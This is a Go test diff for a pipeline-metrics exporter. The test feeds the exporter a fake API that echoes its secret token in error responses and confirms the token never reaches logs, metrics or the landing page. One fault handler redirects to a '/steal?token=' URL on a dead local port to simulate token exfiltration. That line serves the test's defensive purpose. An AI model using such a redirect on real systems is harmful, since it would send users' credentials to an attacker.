@@ -489,3 +489,54 @@ func TestExampleWebConfig(t *testing.T) {
 		}
 	}
 }
+
+// TestTokenNeverLeaks: an API that echoes the token back in every kind of
+// error, at debug level: the token reaches no log line, metric, landing
+// page or reload error.
+func TestTokenNeverLeaks(t *testing.T) {
+	const secret = "pt-LEAKCHECK-9f8e7d6c5b4a"
+	sim := flowsim.New(flowsim.Options{Token: secret, OrganizationID: "org-1"}, flowsim.DemoPipelines()...)
+	echo := func(status int, contentType, format string) http.HandlerFunc {
+		return func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", contentType)
+			w.Header().Set("x-request-id", r.Header.Get("x-yunxiao-token"))
+			w.WriteHeader(status)
+			fmt.Fprintf(w, format, r.Header.Get("x-yunxiao-token"))
+		}
+	}
+	sim.Fault(1001, echo(401, "application/json", `{"errorCode":"InvalidTokenError","errorMessage":"token %s is invalid"}`))
+	sim.Fault(1002, echo(502, "text/html", `<html><title>bad gateway for %s</title></html>`))
+	sim.Fault(1003, echo(200, "application/json", `{"pipelineRunId": "%s"}`))
+	sim.Fault(1004, echo(403, "text/plain", `forbidden: %s`))
+	sim.Fault(1005, func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "http://127.0.0.1:1/steal?token="+r.Header.Get("x-yunxiao-token"), http.StatusFound)
+	})
+	api := httptest.NewServer(sim)
+	t.Cleanup(api.Close)
+	dir := t.TempDir()
+	writeTestFile(t, filepath.Join(dir, "token"), []byte(secret))
+	cfgPath := filepath.Join(dir, "config.yml")
+	writeConfig(t, cfgPath, api.URL, "  - id: 1001\n  - id: 1002\n  - id: 1003\n  - id: 1004\n  - id: 1005\n  - id: 1006\n")
+
+	for _, format := range []string{"logfmt", "json"} {
+		e := startExporter(t, "--config.file="+cfgPath, "--log.level=debug", "--log.format="+format)
+		_, metrics := e.get("/metrics")
+		_, landing := e.get("/")
+		// A reload whose config has an error next to the inline token.
+		writeTestFile(t, filepath.Join(dir, "bad.yml"), []byte("yunxiao:\n  token: "+secret+"\n  organization_id: o\n  timeout: -1s\npipelines:\n  - id: 1\n"))
+		var stdout, stderr bytes.Buffer
+		run(context.Background(), []string{"--config.file=" + filepath.Join(dir, "bad.yml"), "--config.check"}, &stdout, &stderr, nil)
+		e.stop()
+		for what, text := range map[string]string{"log": e.stderr.String(), "metrics": metrics, "landing page": landing, "config check": stdout.String() + stderr.String()} {
+			if strings.Contains(text, secret) {
+				t.Errorf("%s: the token reached the %s:\n%s", format, what, grep(text, secret))
+			}
+		}
+		if !strings.Contains(e.stderr.String(), "<secret>") {
+			t.Errorf("%s: expected the echoed token to be logged redacted as <secret>", format)
+		}
+		if !strings.Contains(metrics, `yunxiao_pipeline_up{pipeline_id="1006",pipeline_name="release-notes"} 1`) {
+			t.Errorf("%s: the healthy pipeline is not up", format)
+		}
+	}
+}
